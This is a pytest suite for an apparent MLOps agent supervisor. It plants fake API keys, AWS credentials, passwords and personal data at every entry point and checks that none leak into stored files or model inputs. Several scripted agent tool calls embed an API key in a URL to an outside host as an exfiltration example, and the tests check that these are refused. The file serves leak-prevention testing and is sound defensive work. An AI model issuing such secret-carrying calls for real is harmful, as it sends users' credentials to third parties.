"""Canaries at every boundary: secrets and personal data planted where text enters reach no stored file and no model.

Text enters through the request, a data set (a few rows of an otherwise clean free-text column), a
tool's output, a registered model's description, a run tag, and the model's own replies and proposed
arguments. Each entry point gets its own canaries, so a leak names where it came from. After a
pipeline to deployment and a chat, every file of the workspace (SQLite tables, parquet rows and zip
members read as what they hold) and every message a model received is searched: zero canaries.

Also here: what the graph does with the arguments a model proposes (a secret is refused, not
rewritten; anything else reaches the tool as proposed and is stored redacted).
"""

from __future__ import annotations

import gzip
import io
import json
import sqlite3
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import yaml
from langchain_core.messages import AIMessage, ToolMessage

from mlops_supervisor import Supervisor
from mlops_supervisor.policies import Finding, PatternRedactor, Redactor
from mlops_supervisor.testing import KeyRing, install_policy
from mlops_supervisor.tools import GovernedTool
from mlops_supervisor.tools.serving import LocalBackend
from tests.conftest import store_client
from tests.test_pipeline import _adult_slice, small_spec


@pytest.fixture(scope="module", autouse=True)
def _tracing_on() -> Iterator[None]:
    """The suite turns tracing off (tests/conftest.py); here traces are part of what is checked."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("MLOPS_TRACING", "1")
        yield


MODEL = "small-model"


@dataclass(frozen=True)
class Canary:
    """One planted value: the entry point it went in by, what kind of value it is, and the text searched for."""

    where: str
    kind: str
    needle: str


@dataclass(frozen=True)
class Plant:
    """The canaries of one entry point, and the sentences that carry them."""

    where: str
    person: str
    phone: str
    ssn: str
    openai_key: str
    aws_access_key: str
    aws_secret_key: str
    db_password: str

    @property
    def email(self) -> str:
        first, last = self.person.lower().split()
        return f"{first}.{last}@example.org"

    @property
    def canaries(self) -> list[Canary]:
        surname = self.person.split()[1]
        values = {
            "person": self.person,
            "surname": surname,
            "phone": self.phone,
            "email": self.email,
            "ssn": self.ssn,
            "openai_key": self.openai_key,
            "aws_access_key": self.aws_access_key,
            "aws_secret_key": self.aws_secret_key,
            "db_password": self.db_password,
        }
        return [Canary(self.where, kind, needle) for kind, needle in values.items()]

    def sentences(self) -> list[str]:
        """The canaries in the kind of sentences people write, a few to a sentence."""
        return [
            f"Customer {self.person} called from {self.phone} about the renewal.",
            f"Reply to {self.email}; their SSN is {self.ssn}.",
            f"rotate the key {self.openai_key} today",
            f"AWS_ACCESS_KEY_ID={self.aws_access_key} AWS_SECRET_ACCESS_KEY={self.aws_secret_key}",
            f"DB_PASSWORD={self.db_password}",
        ]

    def text(self) -> str:
        return " ".join(self.sentences())


def _plant(where: str, tag: str, person: str, number: int) -> Plant:
    return Plant(
        where=where,
        person=person,
        phone=f"(415) 555-01{number:02d}",
        ssn=f"536-90-43{number:02d}",
        openai_key=f"sk-proj-CANARY{tag}q7Lx2mVb9Tz4Nc8Rw1Ks6Hd{number:02d}",
        aws_access_key=f"AKIA{tag}CANARY7Q{number:02d}ZXW",
        aws_secret_key=f"Zk3CANARY{tag}q9Vb2Lm8Np4Rt6Wx1Yz5Ac7Ef0{number:02d}",
        db_password=f"Cn4ry{tag}Pw0rd{number:02d}x",
    )


PLANTS = {
    "request": _plant("request", "REQ", "Margaret Whitfield", 11),
    "data": _plant("data", "DAT", "Daniel Okafor", 22),
    "tool_output": _plant("tool_output", "TOL", "Helena Varga", 33),
    "model_description": _plant("model_description", "DSC", "Thomas Lindqvist", 44),
    "run_tag": _plant("run_tag", "TAG", "Rebecca Thornton", 55),
    "model_reply": _plant("model_reply", "RPL", "Samuel Adeyemi", 66),
}
# Planted straight into the MLflow store by the test, as a user of the store would: mlflow.db is their source.
IN_MLFLOW = {"model_description", "run_tag"}


def test_the_planted_values_have_the_shapes_they_claim() -> None:
    """Each AWS access key is AKIA plus 16 capitals or digits, each secret key 40 characters: the shapes scanners know."""
    for plant in PLANTS.values():
        assert len(plant.aws_access_key) == 20 and plant.aws_access_key[4:].isalnum()
        assert plant.aws_access_key[4:].upper() == plant.aws_access_key[4:]
        assert len(plant.aws_secret_key) == 40
    needles = [c.needle for p in PLANTS.values() for c in p.canaries]
    assert len(needles) == len(set(needles))


# --- the data set: a free-text column that is clean but for a few rows ------------------------------

CLEAN_NOTES = [
    f"{verb} {topic}"
    for verb in ("asked about", "happy with", "wants more on", "confused by", "renewed after", "paused over")
    for topic in ("the annual plan", "overtime rules", "shift swaps", "the new portal", "billing dates")
]
PLANTED_ROWS = (5, 17, 29, 41, 53)


def _data_with_canaries(rows: int) -> pd.DataFrame:
    """A slice of Adult plus a free-text ``note`` column; five rows carry the data canaries, one sentence each."""
    notes = [CLEAN_NOTES[i % len(CLEAN_NOTES)] for i in range(rows)]
    for row, sentence in zip(PLANTED_ROWS, PLANTS["data"].sentences(), strict=True):
        notes[row] = sentence
    return _adult_slice(rows).assign(note=notes)


# --- where to look ---------------------------------------------------------------------------------


def _sqlite_rows(path: Path) -> bytes:
    """Every value of every table, as bytes: a value longer than a page is split across pages in the file."""
    connection = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        tables = [r[0] for r in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        chunks = []
        for table in tables:
            for row in connection.execute(f'SELECT * FROM "{table}"'):
                chunks += [v if isinstance(v, bytes) else str(v).encode() for v in row if v is not None]
        return b"\n".join(chunks)
    finally:
        connection.close()


def _readings(name: str, raw: bytes) -> Iterator[tuple[str, bytes]]:
    """``raw`` and what it holds when it is a container: zip members, gzip, parquet rows, SQLite values."""
    yield name, raw
    if raw[:16] == b"SQLite format 3\x00":
        return
    if raw[:4] == b"PAR1":
        yield f"{name} (rows)", pd.read_parquet(io.BytesIO(raw)).to_csv().encode()
    elif raw[:2] == b"\x1f\x8b":
        yield from _readings(f"{name} (gunzipped)", gzip.decompress(raw))
    elif raw[:4] == b"PK\x03\x04":
        with zipfile.ZipFile(io.BytesIO(raw)) as archive:
            for member in archive.namelist():
                yield from _readings(f"{name}:{member}", archive.read(member))


def _workspace_readings(ws: Path) -> Iterator[tuple[str, bytes]]:
    """(where, bytes) for every file under ``ws``, its containers opened and its databases read row by row."""
    for path in sorted(p for p in ws.rglob("*") if p.is_file()):
        where = str(path.relative_to(ws))
        raw = path.read_bytes()
        yield from _readings(where, raw)
        if raw[:16] == b"SQLite format 3\x00":
            yield f"{where} (rows)", _sqlite_rows(path)


def _leaks(readings: list[tuple[str, bytes]], canaries: list[Canary]) -> dict[str, list[str]]:
    """``where:kind`` of each canary -> the places it was found, leaving out a store canary in its own store."""
    found: dict[str, list[str]] = {}
    for canary in canaries:
        needle = canary.needle.encode()
        for place, blob in readings:
            if canary.where in IN_MLFLOW and place.split(" ")[0] == "mlflow.db":
                continue
            if needle in blob:
                found.setdefault(f"{canary.where}:{canary.kind}", []).append(place)
    return found


# --- the pipeline to deployment, then a chat ---------------------------------------------------------


def _run_pipeline_to_deployment(ws: Path, tmp_path: Path, keys: KeyRing) -> dict[str, Any]:
    """Data to deploy under a policy where carol approves: alice's run pauses at the first production deploy; carol approves."""
    install_policy(ws, keys.policy(approvers=["carol"], people=["alice"]), admin="carol", keys=keys)
    # fairness by sex only: on 3,000 rows the race groups are too small for the default limits
    spec = small_spec(
        tmp_path,
        _data_with_canaries(3000),
        data__sensitive_features=["sex"],
        # the inputs a deploy needs (supervisor/_requirements.py)
        use_case="flag census records above 50K",
        data__sensitivity="internal",
        serving={"target": "local", "latency_p95_ms": 250},
    )
    assert PLANTS["data"].openai_key in (tmp_path / "data.csv").read_text("utf-8")  # the stage reads them raw
    with Supervisor(ws, user="alice") as sup:
        held = sup.run_pipeline(spec, stop_after="deploy")
    assert held.status == "awaiting_approval", held.report.summary
    assert held.pending_approval is not None and held.pending_approval.tool == "deploy_model"
    with Supervisor(ws, user="carol") as sup:
        done = sup.approve(held.thread_id, reason="evidence reviewed")
    assert done.status == "done", done.report.summary
    outputs = {o.tool: o.output for o in done.outputs if o.outcome == "ok"}
    assert set(outputs) >= {"scan_pii", "version_dataset", "train_model", "register_model", "deploy_model"}
    scan = outputs["scan_pii"]
    assert "note" not in {c["column"] for c in scan["pii_columns"]}  # the column verdict keeps it
    assert scan["redacted_cells"]["note"]["cells_redacted"] >= 1
    return outputs


def _plant_in_mlflow(ws: Path, train: dict[str, Any]) -> str:
    """The model description and a run tag the tools read (list_runs reports the failure reason); the experiment's name."""
    client = store_client(ws)
    client.update_registered_model(MODEL, description=PLANTS["model_description"].text())
    client.set_tag(train["parent_run_id"], "mlops.failure_reason", PLANTS["run_tag"].text())
    assert client.get_registered_model(MODEL).description == PLANTS["model_description"].text()
    return str(client.get_experiment(train["experiment_id"]).name)


def _chat_script(experiment: str) -> dict[str, Any]:
    """Routes to four specialists; each calls a tool whose output carries canaries, the last one with canaries in its arguments."""
    reply = PLANTS["model_reply"]
    return {
        "supervisor": [
            {"route": "experimentation", "task": "list the runs"},
            {"route": "registry", "task": f"list the versions of {MODEL}"},
            {"route": "security", "task": "show the policy"},
            {"route": "data", "task": f"load the export {reply.email} sent"},
            {"route": "finish", "answer": "done"},
        ],
        "experimentation": [
            {"tool_calls": [{"name": "list_runs", "args": {"experiment": experiment}}]},
            {"content": f"runs listed; {reply.sentences()[0]}"},
        ],
        "registry": [
            {"tool_calls": [{"name": "list_model_versions", "args": {"model": MODEL}}]},
            {"content": f"versions listed; {reply.sentences()[1]}"},
        ],
        "security": [
            {"tool_calls": [{"name": "show_policy", "args": {}}]},
            {"content": f"policy shown; {reply.sentences()[3]}"},
        ],
        "data": [
            {
                "tool_calls": [
                    {"name": "load_dataset", "args": {"source": f"s3://exports/{reply.openai_key}/adult.csv"}}
                ],
                "content": reply.sentences()[4],
            },
            {"content": "loaded"},
        ],
    }


def _echoing_show_policy(sup: Supervisor) -> GovernedTool:
    """show_policy that answers with the tool-output canaries (a tool output is untrusted text)."""
    real = sup.tools.get("show_policy")

    def show_policy() -> str:
        return json.dumps({"policy": "default", "notes": PLANTS["tool_output"].sentences()})

    return GovernedTool.from_function(
        "show_policy", real.tool.description, real.tool.args_schema, show_policy, mutates=False
    )


def _chat(ws: Path, tmp_path: Path, experiment: str) -> list[str]:
    """The chat over the deployed workspace: its results' checks, and every message text each model received."""
    script = tmp_path / "chat.yaml"
    script.write_text(yaml.safe_dump(_chat_script(experiment)), "utf-8")
    with Supervisor(ws, user="alice") as probe:
        tools = probe.tools.replaced(show_policy=_echoing_show_policy(probe))
    with Supervisor(ws, model=f"scripted:{script}", user="alice", tools=tools) as sup:
        result = sup.ask(f"Summarise what we run. {PLANTS['request'].text()}")
        provider = sup._provider(sup.model_spec)
        received = [
            str(message.content)
            for node in ("supervisor", "experimentation", "registry", "security", "data")
            for call in provider.chat_model(node).calls  # type: ignore[attr-defined]
            for message in call
        ]
    outcomes = {(o.tool, o.outcome) for o in result.outputs}
    assert outcomes == {("list_runs", "ok"), ("list_model_versions", "ok"), ("show_policy", "ok")}
    (refused,) = [d for d in result.decisions if d.action == "load_dataset"]
    assert refused.reason_code == "secret_in_arguments"
    assert result.status == "refused"
    assert "mlops.failure_reason" not in json.dumps([o.output for o in result.outputs])  # the tag's value, not its key
    return received


def test_no_canary_reaches_a_workspace_file_or_a_model(tmp_path: Path, keys: KeyRing) -> None:
    """After a pipeline to a production deploy and a chat, no planted secret or personal datum is in the workspace or a model's input."""
    ws = tmp_path / "ws"
    try:
        outputs = _run_pipeline_to_deployment(ws, tmp_path, keys)
        experiment = _plant_in_mlflow(ws, outputs["train_model"])
        received = _chat(ws, tmp_path, experiment)
    finally:
        LocalBackend.for_workspace(ws).down()
    model_input = "\n".join(received)
    assert "<API_KEY>" in model_input and "<EMAIL_ADDRESS>" in model_input  # the canaries did reach the boundary
    readings = [*_workspace_readings(ws), ("messages a model received", model_input.encode())]
    names = {place for place, _ in readings}
    assert {"mlflow.db (rows)", "checkpoints.sqlite (rows)", "audit.jsonl"} <= names
    assert any(place.endswith(".parquet (rows)") for place in names)
    assert any(".skops" in place or "model.pkl" in place for place in names), sorted(names)
    canaries = [c for plant in PLANTS.values() for c in plant.canaries]
    leaks = _leaks(readings, canaries)
    assert leaks == {}, "canaries found (entry:kind -> places):\n" + "\n".join(f"{k}: {v}" for k, v in leaks.items())


# --- the arguments a model proposes --------------------------------------------------------------------

SECRET = PLANTS["model_reply"].openai_key


def _recording(sup: Supervisor, name: str, seen: list[dict[str, Any]]) -> GovernedTool:
    """``name`` whose body only records the arguments it was given."""
    real = sup.tools.get(name)

    def body(**kwargs: Any) -> str:
        seen.append(kwargs)
        return "recorded"

    return GovernedTool.from_function(name, real.tool.description, real.tool.args_schema, body, mutates=real.mutates)


def _one_call(
    workspace: Path, tmp_path: Path, call: dict[str, Any], seen: list[dict[str, Any]], redactor: Redactor | None
) -> tuple[Any, Any]:
    """The data agent proposes ``call`` once (``redactor``: the supervisor's, None for its default); result and final state."""
    script = {
        "supervisor": [{"route": "data", "task": "describe the export"}, {"route": "finish", "answer": "described"}],
        "data": [{"tool_calls": [call]}, {"content": "described"}],
    }
    path = tmp_path / "script.yaml"
    path.write_text(yaml.safe_dump(script), "utf-8")
    with Supervisor(workspace) as probe:
        tools = probe.tools.replaced(**{call["name"]: _recording(probe, call["name"], seen)})
    with Supervisor(workspace, model=f"scripted:{path}", tools=tools, redactor=redactor) as sup:
        result = sup.ask("describe the export")
        state = sup._graph(sup.model_spec).get_state(sup._config(result.thread_id)).values
    return result, state


def _stored(workspace: Path) -> bytes:
    return b"".join(raw for _, raw in _workspace_readings(workspace))


class _BlindToPaths(PatternRedactor):
    """A redactor whose ``redact_text`` keeps paths whole while its secrets-only scan finds what is in them."""

    def redact_text(self, text: str) -> str:
        return text if "/" in text else super().redact_text(text)

    def secret_findings(self, text: str) -> list[Finding]:
        return [f for f in self.findings(text) if f.entity in {"API_KEY", "SECRET"}]


@pytest.mark.parametrize("redactor", [PatternRedactor(), _BlindToPaths()], ids=["pattern", "blind-to-paths"])
def test_a_secret_in_proposed_arguments_is_refused_not_rewritten(
    workspace: Path, tmp_path: Path, redactor: Redactor
) -> None:
    """A call whose arguments hold a secret is denied (secret_in_arguments) and stops the request; no body runs; the stored call holds no secret."""
    source = f"https://uploads.example.net/{SECRET}/adult.csv"
    seen: list[dict[str, Any]] = []
    call = {"name": "load_dataset", "args": {"source": source}}
    result, state = _one_call(workspace, tmp_path, call, seen, redactor)
    assert seen == []
    assert result.status == "refused"
    (decision,) = result.decisions
    assert (decision.action, decision.decision, decision.reason_code) == ("load_dataset", "deny", "secret_in_arguments")
    assert "API_KEY in 'source'" in decision.message and "exfiltration" in decision.message
    proposal = next(m for m in state["agent_messages"] if isinstance(m, AIMessage) and m.tool_calls)
    (call,) = proposal.tool_calls
    assert call["args"] == {"source": "https://uploads.example.net/<API_KEY>/adult.csv"}
    assert proposal.response_metadata["secrets_in_arguments"] == {
        call["id"]: [{"argument": "source", "entity": "API_KEY"}]
    }
    (denial,) = [m for m in state["agent_messages"] if isinstance(m, ToolMessage)]
    assert str(denial.content).startswith("DENIED (secret_in_arguments)")
    with Supervisor(workspace, redactor=redactor) as sup:
        (audited,) = [r for r in sup.audit.records() if r["event"] == "decision"]
    assert audited["args"] == call["args"] and audited["reason_code"] == "secret_in_arguments"
    assert SECRET.encode() not in _stored(workspace)


@pytest.mark.parametrize("redactor", ["pattern", "default"])
def test_proposed_arguments_reach_the_tool_as_proposed_and_are_stored_redacted(
    workspace: Path, tmp_path: Path, redactor: str
) -> None:
    """A path with an '@' (no secret) runs as proposed, whatever the redactor makes of it; the state and audit keep the redacted form."""
    source = "/srv/exports/ops@example.org/adult.csv"
    seen: list[dict[str, Any]] = []
    chosen = PatternRedactor() if redactor == "pattern" else None
    result, state = _one_call(workspace, tmp_path, {"name": "load_dataset", "args": {"source": source}}, seen, chosen)
    with Supervisor(workspace, redactor=chosen) as sup:
        shown = sup.redactor.redact_text(source)
        audited = [r for r in sup.audit.records() if r["event"] in {"decision", "tool_call"}]
    if redactor == "pattern":
        assert shown != source  # the pattern redactor takes it for an e-mail address: that part must not be stored
    assert seen == [{"source": source}]
    assert result.status == "done"
    assert [(d.action, d.decision) for d in result.decisions] == [("load_dataset", "allow")]
    assert [(r["event"], r["args"]) for r in audited] == [
        ("decision", {"source": shown}),
        ("tool_call", {"source": shown}),
    ]
    (call,) = next(m for m in state["agent_messages"] if isinstance(m, AIMessage) and m.tool_calls).tool_calls
    assert call["args"] == {"source": shown}
    assert [r["args"] for r in state["tool_results"]] == [{"source": shown}]
    assert (b"ops@example.org" in _stored(workspace)) is (shown == source)


def test_a_call_run_by_another_process_runs_on_its_recorded_arguments() -> None:
    """Kept arguments serve only the call they were kept for; without them (another process) the recorded form runs."""
    from mlops_supervisor._arguments import ProposedArguments

    kept = ProposedArguments()
    raw, shown = {"source": "/a/ops@example.org.csv"}, {"source": "/a/<EMAIL_ADDRESS>.csv"}
    kept.keep("call_1", "load_dataset", raw, shown)
    assert kept.claim("t-1", "call_1", "load_dataset", shown) == raw
    assert kept.release("t-2", "call_1", "load_dataset", shown) == shown  # another thread's call of that id
    assert kept.release("t-1", "call_1", "scan_pii", shown) == shown  # another tool: the entry is spent
    kept.keep("call_2", "load_dataset", raw, shown)
    assert kept.claim("t-1", "call_2", "load_dataset", {"source": "other"}) == {"source": "other"}
    assert ProposedArguments().release("t-1", "call_3", "load_dataset", shown) == shown


@pytest.mark.parametrize(
    ("entity", "secret"),
    [
        ("API_KEY", True),
        ("SECRET", True),
        ("JWT", True),
        ("PRIVATE_KEY", True),
        ("AWS_SECRET_KEY", True),
        ("SLACK_WEBHOOK", True),
        ("URL_PASSWORD", True),
        ("PERSON", False),
        ("EMAIL_ADDRESS", False),
        ("US_SSN", False),
        ("US_PASSPORT", False),
        ("IBAN_CODE", False),
    ],
)
def test_secret_entities_are_credentials_not_personal_data(entity: str, secret: bool) -> None:
    """Keys, tokens, passwords and webhooks are secrets (refused in arguments); personal data is redacted, not refused."""
    from mlops_supervisor.policies.secrets_in_args import is_secret_entity

    assert is_secret_entity(entity) is secret


def test_without_secrets_blanks_only_the_secrets() -> None:
    """A refused call is stored with its secrets replaced (a value under a secret key whole) and everything else as it was."""
    from mlops_supervisor.policies.secrets_in_args import without_secrets

    args = {"source": f"s3://x/{SECRET}/a.csv", "options": {"db_password": "hunter2hunter2", "rows": 3}, "n": [1, "ok"]}
    assert without_secrets(PatternRedactor(), args) == {
        "source": "s3://x/<API_KEY>/a.csv",
        "options": {"db_password": "<SECRET>", "rows": 3},
        "n": [1, "ok"],
    }


def test_secrets_in_arguments_name_the_argument_never_the_value() -> None:
    """Nested values and keys are read; the path names the argument, and a secret used as a key is redacted there too."""
    from mlops_supervisor.policies.secrets_in_args import ArgumentSecret, secrets_in_arguments

    args = {
        "options": {"headers": ["x", f"Bearer {SECRET}"], "db_password": "hunter2hunter2"},
        SECRET: 1,
        "contact": "ops@example.org",
        "max_tokens": 512,
    }
    assert secrets_in_arguments(PatternRedactor(), args) == [
        ArgumentSecret("options.headers[1]", "API_KEY"),
        ArgumentSecret("options.db_password", "SECRET"),
        ArgumentSecret("<API_KEY>", "API_KEY"),
    ]


def test_a_proposal_without_its_secrets_record_is_scanned_by_the_policy_node(tmp_path: Path) -> None:
    """A proposal that did not pass the specialist node (no record of its secrets) is still refused for one: fail closed."""
    from mlops_supervisor._graph import Runtime, _policy_node
    from mlops_supervisor._llm import resolve_model
    from mlops_supervisor._logging import make_logger
    from mlops_supervisor.agents import AgentSpec
    from mlops_supervisor.policies import AuditLog, Policy, redact_value
    from mlops_supervisor.tools import ToolRegistry

    seen: list[dict[str, Any]] = []
    with Supervisor(tmp_path / "ws") as probe:
        load = _recording(probe, "load_dataset", seen)
    redactor = PatternRedactor()
    spec = AgentSpec(name="data", role="data", tools=("load_dataset",), duties=(), never=())
    runtime = Runtime(
        policy=Policy(),
        audit=AuditLog(tmp_path / "audit.jsonl", redact=lambda v: redact_value(redactor, v)),
        redactor=redactor,
        tools=ToolRegistry([load]),
        models=resolve_model("offline", nodes=("supervisor",)),
        log=make_logger(tmp_path / "logs", redactor=redactor),
        specialists={"data": spec},
    )
    raw = AIMessage(
        content="",
        tool_calls=[{"name": "load_dataset", "args": {"source": f"/x/{SECRET}.csv"}, "id": "c1", "type": "tool_call"}],
    )
    state: Any = {"thread_id": "t-1", "route": {"agent": "data", "task": "load"}, "agent_messages": [raw]}
    update = _policy_node(runtime)(state).update
    assert isinstance(update, dict)
    assert [(d["decision"], d["reason_code"]) for d in update["decisions"]] == [("deny", "secret_in_arguments")]
    assert update["allowed"] == [] and seen == []
